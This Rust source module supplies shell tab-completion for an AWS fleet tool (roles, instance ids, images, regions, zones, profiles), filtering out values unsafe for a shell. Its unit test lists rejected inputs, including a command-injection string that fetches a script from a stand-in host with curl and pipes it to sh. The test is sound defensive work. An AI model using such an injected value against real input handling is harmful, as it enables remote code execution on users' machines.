//! What a shell can complete a word to: names of roles, boxes, clusters, images, profiles.
//!
//! It never waits for the network. Roles and profiles are in files; boxes and images are those that were last seen, kept
//! by `list` and `list-images`. What is older than a few minutes is looked at again by another process.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::time::SystemTime;

use clap_complete::engine::{CompletionCandidate, PathCompleter, ValueCompleter as _};
use fleetkey_common::aws_names::Namespace;

use crate::config::{self, Document, PROFILE_VARIABLE, Place};
use crate::refusal::Refusal;
use crate::role::Library;
use crate::settings::Settings;

pub(crate) mod cache;
mod line;

use cache::{Cache, Known, SeenBox};
use line::Line;

/// AWS's regions that need no enabling, which all accounts have, and those of the configuration beside them.
/// <https://docs.aws.amazon.com/global-infrastructure/latest/regions/aws-regions.html>
const REGIONS: [&str; 17] = [
    "ap-northeast-1",
    "ap-northeast-2",
    "ap-northeast-3",
    "ap-south-1",
    "ap-southeast-1",
    "ap-southeast-2",
    "ca-central-1",
    "eu-central-1",
    "eu-north-1",
    "eu-west-1",
    "eu-west-2",
    "eu-west-3",
    "sa-east-1",
    "us-east-1",
    "us-east-2",
    "us-west-1",
    "us-west-2",
];

/// What is known where the line that is typed leads to.
struct World {
    line: Line,
    known: Known,
}

fn env(name: &str) -> Option<String> {
    std::env::var(name).ok()
}

fn line() -> Line {
    Line::read(std::env::args_os().map(|word| word.to_string_lossy().into_owned()))
}

/// The configuration; one with faults says nothing.
fn configuration() -> Document {
    config::load(Place::find().as_ref()).unwrap_or_default()
}

impl World {
    fn open() -> Self {
        let line = line();
        let cache = Self::cache(&line).ok().flatten();
        let known = cache.as_ref().map(Cache::read).unwrap_or_default();
        if cache.is_some_and(|cache| cache.is_due(SystemTime::now())) {
            look_again(&line);
        }
        Self { line, known }
    }

    fn cache(line: &Line) -> Result<Option<Cache>, Refusal> {
        let places = line.places();
        let configured = configuration().choose(places.profile.as_deref(), env(PROFILE_VARIABLE))?;
        let settings = Settings::new(&places, env, &configured).map_err(Refusal::usage)?;
        Ok(Cache::of(&settings, env))
    }

    /// The boxes of the role that is typed, or all where none is yet.
    fn meant(&self) -> impl Iterator<Item = &SeenBox> {
        let role = self.line.first_of(self.known.boxes.iter().map(|found| found.role.as_str()));
        self.known.boxes.iter().filter(move |found| role.is_none_or(|role| found.role == role))
    }
}

/// Has another process look, which outlives this one. Whether it can is of no matter here.
fn look_again(line: &Line) {
    let Ok(program) = std::env::current_exe() else { return };
    let mut command = Command::new(program);
    command.args(["list", "--quiet"]).args(line.place_words()).process_group(0);
    drop(command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn());
}

/// A word that a shell may be given; `None` for one that is more than a word to it. What is offered gets into the line as it
/// is, and a tag can say anything.
fn candidate(value: impl Into<String>, help: impl Into<String>) -> Option<CompletionCandidate> {
    let (value, help): (String, String) = (value.into(), help.into());
    let begins = |c: char| c.is_ascii_alphanumeric() || "_/".contains(c);
    let plain = value.starts_with(begins) && value.chars().all(|c| begins(c) || ".-=+,@:".contains(c));
    plain.then(|| CompletionCandidate::new(value).help((!help.is_empty()).then(|| help.into())))
}

/// Names of roles that there are boxes of; where no box is known, those of roles.
pub(crate) fn roles_with_boxes() -> Vec<CompletionCandidate> {
    let world = World::open();
    let mut roles: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    for found in &world.known.boxes {
        let (all, running) = roles.entry(&found.role).or_default();
        *all += 1;
        *running += usize::from(found.state == "running");
    }
    if roles.is_empty() {
        return roles_to_launch();
    }
    let words = |(all, running): (usize, usize)| match (all, running) {
        (1, 1) => "1 box, running".to_owned(),
        (1, _) => "1 box".to_owned(),
        (all, running) => format!("{all} boxes, {running} running"),
    };
    roles.into_iter().filter_map(|(role, counts)| candidate(role, words(counts))).collect()
}

/// The role of a box, and behind it files of this machine: what `rsync` takes.
pub(crate) fn role_then_paths(typed: &OsStr) -> Vec<CompletionCandidate> {
    let roles = roles_with_boxes();
    let names: Vec<&str> = roles.iter().filter_map(|role| role.get_value().to_str()).collect();
    if line().first_of(names.into_iter()).is_some() {
        return PathCompleter::any().complete(typed);
    }
    let typed = typed.to_string_lossy();
    roles.into_iter().filter(|role| role.get_value().to_string_lossy().starts_with(&*typed)).collect()
}

/// Names of all roles.
pub(crate) fn roles() -> Vec<CompletionCandidate> {
    let Ok(library) = Library::open(&[]) else { return Vec::new() };
    library.names().into_iter().filter_map(|name| candidate(name.to_string(), "")).collect()
}

/// Names of roles that can be launched.
pub(crate) fn roles_to_launch() -> Vec<CompletionCandidate> {
    let Ok(library) = Library::open(&[]) else { return Vec::new() };
    let launched = library.names().into_iter().filter_map(|name| {
        let role = library.load(&name).ok().filter(|role| !role.abstract_)?;
        candidate(name.to_string(), role.description)
    });
    launched.collect()
}

/// Names of roles that there may be images of.
pub(crate) fn roles_with_images() -> Vec<CompletionCandidate> {
    let world = World::open();
    let mut names: BTreeSet<&str> = world.known.boxes.iter().map(|found| found.role.as_str()).collect();
    names.extend(world.known.images.iter().filter(|(_, images)| !images.is_empty()).map(|(of, _)| of.as_str()));
    names.into_iter().filter_map(|name| candidate(name, "")).collect()
}

/// Instance ids.
pub(crate) fn instance_ids() -> Vec<CompletionCandidate> {
    World::open().meant().filter_map(|found| candidate(found.id.as_str(), described(found))).collect()
}

/// Ordinals of the boxes of a role.
pub(crate) fn ordinals() -> Vec<CompletionCandidate> {
    let world = World::open();
    let Some(role) = world.line.first_of(world.known.boxes.iter().map(|found| found.role.as_str())) else {
        return Vec::new();
    };
    let meant = world.known.boxes.iter().filter(|found| found.role == role);
    meant
        .filter_map(|found| candidate(found.ordinal.to_string(), format!("{}, {}", found.id, described(found))))
        .collect()
}

fn described(found: &SeenBox) -> String {
    let address = found.address.as_deref().unwrap_or("no address");
    format!("{} {}, {}, {address}", found.role, found.ordinal, found.state)
}

/// Names of clusters.
pub(crate) fn clusters() -> Vec<CompletionCandidate> {
    let world = World::open();
    let names: BTreeSet<&str> = world.meant().filter_map(|found| found.cluster.as_deref()).collect();
    names.into_iter().filter_map(|name| candidate(name, "")).collect()
}

/// Images of the role that is typed: ordinals and ids.
pub(crate) fn images() -> Vec<CompletionCandidate> {
    let world = World::open();
    let roles = world.known.boxes.iter().map(|found| (found.role.as_str(), found.name.as_str()));
    let role = world.line.first_of(roles.clone().map(|(role, _)| role));
    let name = roles.clone().find(|(known, _)| Some(*known) == role).map(|(_, name)| name);
    let full = world.line.first_of(world.known.images.keys().map(String::as_str));
    let below = |name: &str| world.line.first_of([name.rsplit('/').next().unwrap_or(name)].into_iter()).is_some();
    let of = name.or(full).or_else(|| world.known.images.keys().map(String::as_str).find(|name| below(name)));
    let images = of.and_then(|of| world.known.images.get(of)).into_iter().flatten().enumerate();
    let words = images
        .flat_map(|(at, image)| [candidate(at.to_string(), &image.name), candidate(image.id.as_str(), &image.name)]);
    words.flatten().collect()
}

/// Regions.
pub(crate) fn regions() -> Vec<CompletionCandidate> {
    let configured: Vec<String> = configuration().values(|fragment| fragment.region.as_ref());
    let names: BTreeSet<&str> = REGIONS.into_iter().chain(configured.iter().map(String::as_str)).collect();
    names.into_iter().filter_map(|name| candidate(name, "")).collect()
}

/// Availability zones in which there are boxes, wherever they were seen: the word at hand says where to look.
pub(crate) fn zones() -> Vec<CompletionCandidate> {
    let known = Cache::all();
    let configured: Vec<String> = configuration().values(|fragment| fragment.zone.as_ref());
    let seen = known.iter().flat_map(|known| &known.boxes).map(|found| found.zone.as_str());
    let names: BTreeSet<&str> = seen.chain(configured.iter().map(String::as_str)).collect();
    names.into_iter().filter_map(|name| candidate(name, "")).collect()
}

/// Namespaces: those of the configuration, and all in which boxes were seen: the word at hand says where to look.
pub(crate) fn namespaces() -> Vec<CompletionCandidate> {
    let known = Cache::all();
    let mut names: BTreeSet<String> =
        configuration().values(|fragment| fragment.namespace.as_ref()).into_iter().collect();
    names.insert(Namespace::root().as_str().to_owned());
    let seen = known.iter().flat_map(|known| &known.boxes).filter_map(|found| found.name.rsplit_once('/'));
    names.extend(seen.map(|(namespace, _)| format!("{namespace}/")));
    names.into_iter().filter_map(|name| candidate(name, "")).collect()
}

/// Profiles of the configuration.
pub(crate) fn profiles() -> Vec<CompletionCandidate> {
    let configured = configuration();
    configured.profiles().filter_map(|(name, ..)| candidate(name, "")).collect()
}

/// Options of the role that is typed, up to the `=`.
pub(crate) fn options() -> Vec<CompletionCandidate> {
    let Ok(library) = Library::open(&[]) else { return Vec::new() };
    let names: Vec<String> = library.names().into_iter().map(|name| name.to_string()).collect();
    let typed = line();
    let Some(role) = typed.first_of(names.iter().map(String::as_str)).and_then(|name| name.parse().ok()) else {
        return Vec::new();
    };
    let Ok(role) = library.load(&role) else { return Vec::new() };
    role.options.iter().filter_map(|(name, spec)| candidate(format!("{name}="), &spec.help)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn t5_what_is_more_than_a_word_to_a_shell_is_not_offered() {
        for good in ["web", "/prod/web", "/__me__/", "c1.a-b_c", "size=", "us-west-2a,us-west-2b", "0", "i-01234567"] {
            assert!(candidate(good, "").is_some(), "{good:?}");
        }
        for bad in
            ["", "-x", "=ls", "~", "a b", "c1;curl${IFS}x.example|sh", "a\nb", "*", "a*", "$(x)", "`x`", "a'b", "é"]
        {
            assert!(candidate(bad, "").is_none(), "{bad:?}");
        }
    }
}
